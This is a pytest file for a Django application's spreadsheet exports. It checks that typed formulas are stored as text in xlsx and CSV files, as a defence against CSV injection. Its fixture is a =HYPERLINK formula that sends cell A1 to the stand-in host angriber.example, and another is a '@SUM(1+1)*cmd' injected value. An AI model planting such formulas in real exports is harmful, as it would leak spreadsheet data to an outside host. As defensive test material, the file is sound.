"""Typed text that a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) is written as text
in every xlsx and CSV export (OWASP CSV injection)."""

import io
from datetime import date

import pytest
from django.test import Client
from openpyxl import load_workbook

from conftest import login_client
from initiatives.models import Initiative
from reports import exports
from reports.models import DistrictText, TroubledAreasReport
from reports.troubled_areas_views import _xlsx
from reports.views import budget_export_for
from sikkerby.spreadsheets import csv_cell

ATTACK = '=HYPERLINK("http://angriber.example/?"&A1,"Klik")'


def _cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_becomes_text_in_csv(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_keep_their_minus_in_csv():
    assert csv_cell("-0,5") == "-0,5" and csv_cell("-1.234,5") == "-1.234,5"


def test_the_status_form_xlsx_stores_typed_formulas_as_text(catalogue):
    vink = Initiative.objects.get(slug="vink")
    Initiative.objects.filter(pk=vink.pk).update(activities=ATTACK)
    cells = _cells(exports.status_form_xlsx(Initiative.objects.get(pk=vink.pk)))
    typed = [c for c in cells if c.value == ATTACK]
    assert typed and all(c.data_type == "s" for c in typed)
    assert not [c for c in cells if c.data_type == "f"]


def test_the_budget_xlsx_and_csv_store_a_typed_initiative_name_as_text(catalogue):
    Initiative.objects.filter(slug="vink").update(name=ATTACK)
    export = budget_export_for(view="initiative", first=2012, last=2014)
    assert not [c for c in _cells(exports.budget_xlsx(export)) if c.data_type == "f"]
    text = exports.budget_csv(export).decode("utf-8-sig")
    assert f"'{ATTACK}" in text.replace('""', '"')


def test_the_troubled_areas_xlsx_stores_district_texts_as_text(analyst):
    report = TroubledAreasReport.objects.create(
        title="Rapport",
        period_start=date(2026, 1, 1),
        period_end=date(2026, 6, 30),
        created_by=analyst,
    )
    DistrictText.objects.create(report=report, district="noerrebro", challenges=ATTACK)
    content = _xlsx(
        {
            "report": report,
            "figures": {
                "districts": [],
                "city": {"charges_under_18": 0, "cases": dict.fromkeys("1234", 0)},
            },
            "texts": report.district_texts.all(),
        }
    )
    assert not [c for c in _cells(content) if c.data_type == "f"]


def test_the_audit_trail_csv_writes_typed_text_as_text(administrator, bif_owner):
    from initiatives.actions import initiative_update

    vink = Initiative.objects.get(slug="vink")
    initiative_update(
        by=bif_owner, initiative=vink, data={"name": "@SUM(1+1)*cmd"}, expected_version=1
    )
    export = login_client(Client(), administrator).get("/revision/?format=csv")
    assert "'@SUM(1+1)*cmd" in export.content.decode("utf-8-sig")
